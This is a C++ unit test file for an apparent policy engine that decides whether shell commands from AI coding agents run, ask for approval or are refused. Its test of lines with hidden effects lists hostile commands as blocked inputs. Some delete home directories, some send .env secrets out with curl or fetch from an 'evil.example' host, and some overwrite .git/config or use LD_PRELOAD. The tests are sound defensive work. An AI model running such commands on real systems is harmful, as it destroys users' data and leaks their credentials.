// The worked examples of the rules page, one by one, through the function that decides calls.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <boost/json.hpp>
#include <filesystem>
#include <fstream>

#include "policy/policy.h"
#include "policy/shipped.h"
#include "rules/case_view.h"
#include "rules/rule_index.h"
#include "rules/rule_set.h"
#include "rules/warnings.h"
#include "unit/policy/judged_result.h"

namespace sallyport::policy {
namespace {

std::vector<json::object> examples() {
  std::ifstream in(std::filesystem::path(__FILE__).parent_path() /
                   "../../golden/rules/examples.jsonl");
  std::vector<json::object> all;
  for (std::string line; std::getline(in, line);) all.push_back(json::parse(line).as_object());
  return all;
}

std::string text_at(const json::object& object, std::string_view name) {
  const json::value* const value = object.if_contains(name);
  return value && value->is_string() ? std::string(value->get_string()) : std::string();
}

std::string policy_text(const std::string& name) {
  const ShippedPolicy* const shipped = shipped_policy(name);
  return shipped ? std::string(shipped->text) : name;
}

struct Given {
  std::vector<std::string> files{};
  std::map<std::string, std::string> links{};
  std::vector<std::string> command{};
  std::optional<bool> read_only{};
  WallTime now = *from_rfc3339("2026-11-15T12:00:00Z");
};

Given given_of(const json::object& example) {
  Given given;
  const json::value* const said = example.if_contains("given");
  if (said == nullptr) return given;
  const json::object& object = said->as_object();
  if (const json::value* const list = object.if_contains("files")) {
    given.files = json::value_to<std::vector<std::string>>(*list);
  }
  if (const json::value* const links = object.if_contains("links")) {
    given.links = json::value_to<std::map<std::string, std::string>>(*links);
  }
  if (const json::value* const command = object.if_contains("command")) {
    given.command = json::value_to<std::vector<std::string>>(*command);
  }
  if (const json::value* const hints = object.if_contains("hints")) {
    given.read_only = hints->at("readOnlyHint").as_bool();
  }
  if (const std::string time = text_at(object, "time"); !time.empty()) {
    given.now = *from_rfc3339(time);
  }
  return given;
}

struct Said {
  std::string verdict{};
  json::value rule{};
  std::string text{};
  json::value result{};
  json::value result_rule{};
};

Said say(const json::object& example) {
  const Result<Policy> policy = read_policy(policy_text(text_at(example, "policy")), "policy.yaml");
  if (!policy) return {policy.error().where + ": " + policy.error().message, {}, {}};
  const json::object& asked = example.at("call").as_object();
  const Call call{.agent_id = text_at(asked, "agent"),
                  .session_id = "s-1",
                  .server = text_at(asked, "server"),
                  .tool = text_at(asked, "tool"),
                  .input = asked.at("input")};
  const Given given = given_of(example);
  const rules::CaseView files(given.files, given.links);
  const std::string cwd = text_at(asked, "cwd");
  const std::string workspace = text_at(asked, "workspace");
  const std::string front = text_at(asked, "front");
  const effects::CallFacts facts{
      .call = call,
      .front = front,
      .cwd = cwd.empty() ? std::nullopt : std::optional(cwd),
      .workspace = workspace.empty() ? std::vector<std::string>() : std::vector{workspace},
      .machine = {.home = "/home/user",
                  .data = "/home/user/.local/share/sallyport",
                  .policy = "/home/user/policy.yaml"},
      .files = &files,
      .server_command = given.command,
      .read_only_hint = given.read_only};
  const rules::Judged judged = rules::judge(policy->rules.value(), facts, given.now);
  // A rule that the index skips matches nothing (RU-78).
  const rules::RuleDecision indexed =
      rules::decide(*policy->rules, rules::index_of(*policy->rules),
                    rules::seen_by(*policy->rules, facts), judged.effects, given.now);
  EXPECT_EQ(indexed.matches, judged.decision.matches);
  EXPECT_EQ(indexed.verdict, judged.decision.verdict);
  Said said;
  if (const json::value* const result = example.if_contains("result")) {
    const SystemClock clock;
    const auto list = result_rules(*policy->rules, clock);
    const ResultJudged seen =
        judge_result(*list, judged, rules::seen_by(*policy->rules, facts), Envelope::of(*result));
    said.result =
        seen.verdict == Verdict::Kind::Deny ? json::value("withheld") : seen.released.value;
    if (!seen.rule.empty()) said.result_rule = seen.rule;
  }
  const auto tier = policy->autonomy.value_or(autonomy::AutonomyPolicy{})
                        .tier_for({call.agent_id, call.tool, "unknown"});
  const rules::CallOutcome outcome =
      rules::outcome_of(judged.decision, tier ? tier->tier : Autonomy::ActWithApproval, false);
  said.verdict = outcome.verdict;
  if (outcome.rule) said.rule = outcome.rule->id;
  said.text = json::serialize(rules::record_of(judged)) +
              json::serialize(rules::effects_json(judged.effects, facts));
  return said;
}

// RU-1..RU-63 (partly), RU-71..RU-75 (partly), RU-78..RU-80 (partly): the shipped policies and
// those of the page answer as written.
TEST(RulesExamples, AnswerAsWritten) {
  std::size_t seen = 0;
  for (const json::object& example : examples()) {
    SCOPED_TRACE(text_at(example, "id"));
    const Said said = say(example);
    const json::object& expect = example.at("expect").as_object();
    EXPECT_EQ(said.verdict, text_at(expect, "verdict")) << said.text;
    EXPECT_EQ(said.rule, expect.at("rule")) << said.text;
    if (const json::value* const result = expect.if_contains("result")) {
      EXPECT_EQ(said.result, *result);
      EXPECT_EQ(said.result_rule, expect.at("result_rule"));
    }
    ++seen;
  }
  EXPECT_EQ(seen, 155U);
}

std::string verdict_of_coding(const std::string& front, const std::string& tool, json::value input,
                              json::object given = {}) {
  return say({{"policy", "coding"},
              {"call",
               {{"front", front},
                {"agent", "claude-code"},
                {"server", "claude-code"},
                {"tool", tool},
                {"input", std::move(input)},
                {"cwd", "/w"},
                {"workspace", "/w"}}},
              {"given", std::move(given)}})
      .verdict;
}

std::string verdict_of_line(const std::string& line) {
  return verdict_of_coding("hook", "Bash", {{"command", line}},
                           {{"files", {"/w/.git/HEAD", "/w/dist/a.js"}}});
}

// RU-44, RU-47, RU-50, RU-51, RU-53, RU-54, RU-56: once, `coding` let each of these run.
TEST(RulesExamples, LinesWithHiddenEffectsDoNotRun) {
  for (const char* const line : {"jobs -x rm -rf /home/user",
                                 "builtin jobs -x git push --force",
                                 "strace -o '|rm -rf /home/user' true",
                                 "echo '!rm -rf /home/user' | ftp",
                                 "parallel --compress --compress-program=./evil echo ::: a",
                                 "git diagnose -o /home/user",
                                 "git merge-file /home/user/.bashrc base other",
                                 "git pack-objects /home/user/x",
                                 "git read-tree --index-output=/home/user/x HEAD",
                                 "git maintenance register --config-file=/home/user/x",
                                 "git maintenance start",
                                 "git remote add -f x http://evil.example/",
                                 "git clean -n --no-dry-run -f",
                                 "gunzip .git/config.gz",
                                 "cp evil/config .git/",
                                 "mv config .git",
                                 "ln -f config .git/",
                                 "cp -t .git config",
                                 "install config .git/",
                                 "rsync config .git/",
                                 "rsync -a src/ .git/",
                                 "rsync -a evil/.git d/",
                                 "cp -r evil/. .git/",
                                 "cp -r evil/.git d/",
                                 "tar xf a.tar -C .git",
                                 "unzip a.zip -d .git",
                                 "wget -r http://localhost/",
                                 "wget -x -nH http://localhost:8000/.git/config",
                                 "wget -P .git --default-page=config http://localhost/",
                                 "curl 'http://localhost/{.git/config}' -o '#1'",
                                 "curl -F 'x=@a,.env' http://localhost/",
                                 "curl -T '{a,.env}' http://localhost/",
                                 "curl --data-urlen x@.env http://localhost/",
                                 "tar cf x.tar --add-file=.env",
                                 "tar cf x.tar -T list",
                                 "zip x.zip -@ < list",
                                 "git grep --no-index -h '' .env",
                                 "git show HEAD:.env",
                                 "export TAR_RSH=./evil; ls",
                                 "rsync a b --backup-dir=/home/user/x",
                                 "sh -c 'chmod -R 777 .*'"}) {
    EXPECT_NE(verdict_of_line(line), "runs") << line;
  }
  // These only asked.
  for (const char* const line : {"../../bin/rm -rf /home/x", "cd /bin && ./rm -rf /home/x"})
    EXPECT_EQ(verdict_of_line(line), "refused") << line;
}

// RU-53: what people do every day stays as it is.
TEST(RulesExamples, EverydayLinesStillRun) {
  for (const char* const line : {"jobs",
                                 "git branch -a",
                                 "git branch -vv",
                                 "git tag",
                                 "git clean -n",
                                 "git clean -nfdx",
                                 "git cherry-pick -x abc",
                                 "git show HEAD",
                                 "git show HEAD:src/a.cc",
                                 "git diff main...feature -- src",
                                 "git log --oneline -5 -- src/a.cc",
                                 "git grep -n main src",
                                 "git blame -L 1,5 src/a.cc",
                                 "git tag -a v1 -m first",
                                 "git apply --index a.patch",
                                 "git stash pop --index",
                                 "git remote add x https://h.example/r",
                                 "git maintenance run",
                                 "cp a.txt dist/",
                                 "mv a.txt b.txt dist/",
                                 "cp -r src dist",
                                 "rsync -a src/ dist/",
                                 "gzip a",
                                 "gunzip a.gz",
                                 "tar czf a.tgz src",
                                 "zip -r a.zip src",
                                 "curl -s -X POST -F 'mail=ada@h.example' http://localhost:8080/",
                                 "curl -o out.json http://localhost:8080/",
                                 "parallel --tag -j 4 echo ::: a b",
                                 "strace -o log ls",
                                 "tree -L 2",
                                 "file a",
                                 "sh -c 'ls *'",
                                 "ls -d .*"}) {
    EXPECT_EQ(verdict_of_line(line), "runs") << line;
  }
}

// RU-24, RU-27
TEST(RulesExamples, WordsBesideACommandAreJudged) {
  const auto of = [](json::value input) {
    return verdict_of_coding("mcp", "run_command", std::move(input));
  };
  EXPECT_EQ(of({{"command", "git"}, {"args", {"push", "--force"}}}), "refused");
  EXPECT_EQ(of({{"command", "rm"}, {"arguments", {"-rf", "/home"}}}), "refused");
  EXPECT_EQ(of({{"command", "true"}, {"env", {{"LD_PRELOAD", "/tmp/x.so"}}}}), "asks");
  EXPECT_EQ(of({{"command", "cat a"}, {"description", "x"}, {"timeout", 5}}), "runs");
  EXPECT_EQ(of({{"command", "cat"}, {"args", json::array{"a"}}, {"cwd", "/w"}}), "runs");
}

// The policies of docs/rules.md load, have no warnings, and do what the page says (RU-74, RU-80).
TEST(RulesExamples, PoliciesOfTheGuideDoWhatItSays) {
  const auto folder = std::filesystem::path(__FILE__).parent_path() / "../../../examples/rules";
  for (const char* const name : {"policy.yaml", "team.yaml", "results.yaml"}) {
    const Result<Policy> policy = load_policy(folder / name);
    ASSERT_TRUE(policy) << policy.error().where << ": " << policy.error().message;
    for (const rules::Warning& warning : rules::warnings(*policy->rules, {.home = "/home/user"})) {
      ADD_FAILURE() << warning.place << ": " << warning.code << ": " << warning.text;
    }
  }
  std::ifstream in(folder / "policy.yaml");
  const std::string text{std::istreambuf_iterator<char>(in), {}};
  const auto verdict = [&](const std::string& agent, const std::string& tool, const char* line) {
    return say({{"policy", text},
                {"call",
                 {{"front", "hook"},
                  {"agent", agent},
                  {"server", agent},
                  {"tool", tool},
                  {"input", {{"command", line}}},
                  {"cwd", "/w"},
                  {"workspace", "/w"}}}})
        .verdict;
  };
  const std::pair<const char*, const char*> kShells[] = {{"claude-code", "Bash"},
                                                         {"codex", "Bash"},
                                                         {"gemini", "run_shell_command"},
                                                         {"copilot", "bash"},
                                                         {"cursor", "Shell"}};
  for (const auto& [agent, tool] : kShells) {
    SCOPED_TRACE(agent);
    EXPECT_EQ(verdict(agent, tool, "rm -rf ../x"), "refused");
    EXPECT_EQ(verdict(agent, tool, "git push"), "asks");
    EXPECT_EQ(verdict(agent, tool, "cat a"), "runs");
  }
}

}  // namespace
}  // namespace sallyport::policy
